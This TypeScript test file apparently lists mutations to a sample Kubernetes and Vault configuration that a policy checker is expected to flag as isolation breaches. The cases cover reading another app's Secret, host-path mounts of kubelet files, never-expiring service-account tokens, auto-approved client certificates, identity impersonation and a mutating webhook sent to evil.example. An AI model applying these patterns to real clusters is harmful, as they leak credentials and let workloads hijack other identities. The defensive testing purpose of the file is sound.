import { at, type Mutable, type Stacks } from "../fixture";
import { add, addBlock, addManifest, each, LOCAL, OPERATOR, type Mutation } from "./mutation";

/** The Secret of one app of the sample. */
const SECRET = "sample-app-node-api-local-db-connection-secret";

/** A workload of the sample's other app, with what differs in its pods. */
function workload(type: string, pod: Mutable): (stacks: Stacks) => void {
  const metadata = { name: "extra", namespace: "sample", labels: { "app.kubernetes.io/name": "sample-python-api" } };
  const template = { metadata, spec: pod };
  const spec = type.includes("pod")
    ? pod
    : type.includes("cron")
      ? { job_template: { spec: { template } } }
      : { template };
  return (s) => add(s, LOCAL, `${type}.extra`, { metadata, spec });
}

/** A pod of the sample's namespace. */
function pod(spec: Mutable): (stacks: Stacks) => void {
  return (s) => addManifest(s, LOCAL, "v1", "Pod", { metadata: { namespace: "sample" }, spec });
}

/** Workloads and tokens that bring a value, or an identity, of somebody else's. */
export const WORKLOADS: readonly Mutation[] = [
  ...each({ config: "sample", expect: "isolation" }, [
    {
      name: "a workload's pod as a manifest",
      change: pod({ serviceAccountName: "sample-node-api-vault-operator-sa", containers: [] }),
    },
    {
      name: "a pod that takes the Secret into its environment",
      change: pod({ containers: [{ name: "x", image: "x", envFrom: [{ secretRef: { name: SECRET } }] }] }),
    },
    {
      name: "a deployment that mounts the other app's Secret",
      change: workload("kubernetes_deployment_v1", { volume: [{ name: "x", secret: { secret_name: SECRET } }] }),
    },
    {
      name: "a stateful set that mounts the other app's Secret among others",
      change: workload("kubernetes_stateful_set_v1", {
        volume: [{ name: "x", projected: { sources: { secret: { name: SECRET } } } }],
      }),
    },
    {
      name: "a job that takes one key of the other app's Secret",
      change: workload("kubernetes_cron_job_v1", {
        container: [{ name: "x", env: [{ name: "X", value_from: { secret_key_ref: { name: SECRET, key: "x" } } }] }],
      }),
    },
    {
      name: "a daemon set as the other app's service account",
      change: workload("kubernetes_daemonset", { service_account_name: "sample-node-api-vault-operator-sa" }),
    },
    {
      name: "a pod on the node's files",
      change: workload("kubernetes_pod_v1", { volume: [{ name: "x", host_path: { path: "/var/lib/kubelet" } }] }),
    },
    {
      name: "a token of a service account that never ends",
      change: (s) =>
        add(s, LOCAL, "kubernetes_secret_v1.extra", {
          type: "kubernetes.io/service-account-token",
          metadata: {
            name: "extra",
            namespace: "sample",
            annotations: { "kubernetes.io/service-account.name": "sample-node-api-vault-operator-sa" },
          },
        }),
    },
    {
      name: "a token of a service account in the state",
      change: (s) =>
        add(s, LOCAL, "kubernetes_token_request_v1.extra", {
          metadata: { name: "sample-node-api-vault-operator-sa", namespace: "sample" },
          spec: { audiences: ["vault"] },
        }),
    },
    {
      name: "a Secret filled from another app's",
      change: (s) => {
        addBlock(s, LOCAL, "data", { kubernetes_secret_v1: { x: { metadata: { name: SECRET } } } });
        at(s, LOCAL, "kubernetes_secret_v1.sample-python-api_binding_secret").data_wo =
          "${data.kubernetes_secret_v1.x.data}";
      },
    },
    {
      name: "an environment variable in somebody else's deployment",
      change: (s) =>
        add(s, LOCAL, "kubernetes_env.extra", {
          kind: "Deployment",
          metadata: { name: "python", namespace: "sample" },
          env: [{ name: "X", value_from: { secret_key_ref: { name: SECRET, key: "x" } } }],
        }),
    },
    {
      name: "a certificate that Kubernetes signs for somebody",
      change: (s) =>
        add(s, OPERATOR, "kubernetes_certificate_signing_request_v1.extra", {
          metadata: { name: "extra" },
          spec: { request: "x", signer_name: "kubernetes.io/kube-apiserver-client" },
          auto_approve: true,
        }),
    },
    {
      name: "a say in everything that is written, by a webhook",
      change: (s) =>
        add(s, OPERATOR, "kubernetes_mutating_webhook_configuration_v1.extra", {
          metadata: { name: "extra" },
          webhook: [{ name: "x.evil.example", client_config: { url: "https://evil.example" } }],
        }),
    },
    {
      name: "another app's login as this app's service account",
      change: (s) => {
        const spec = at(s, LOCAL, "kubernetes_manifest.sample-node-api_binding_auth").manifest.spec;
        const labels = { "app.kubernetes.io/name": "sample-python-api" };
        addManifest(s, LOCAL, "secrets.hashicorp.com/v1beta1", "VaultAuth", {
          metadata: { namespace: "sample", labels },
          spec,
        });
      },
    },
    {
      name: "a service account that says it is the app's",
      change: (s) => {
        const labels = { "app.kubernetes.io/name": "sample-node-api" };
        add(s, LOCAL, "kubernetes_service_account_v1.extra", {
          metadata: { name: "debug", namespace: "debug", labels },
        });
        add(s, LOCAL, "vault_kubernetes_auth_backend_role.extra", {
          backend: "kubernetes",
          role_name: "debug",
          audience: "vault",
          bound_service_account_names: ["debug"],
          bound_service_account_namespaces: ["debug"],
          token_policies: ["sample-node-api-local"],
        });
        addManifest(s, LOCAL, "secrets.hashicorp.com/v1beta1", "VaultAuth", {
          metadata: { namespace: "debug", labels },
          spec: { method: "kubernetes", mount: "kubernetes", kubernetes: { role: "debug", serviceAccount: "debug" } },
        });
      },
    },
  ]),
];
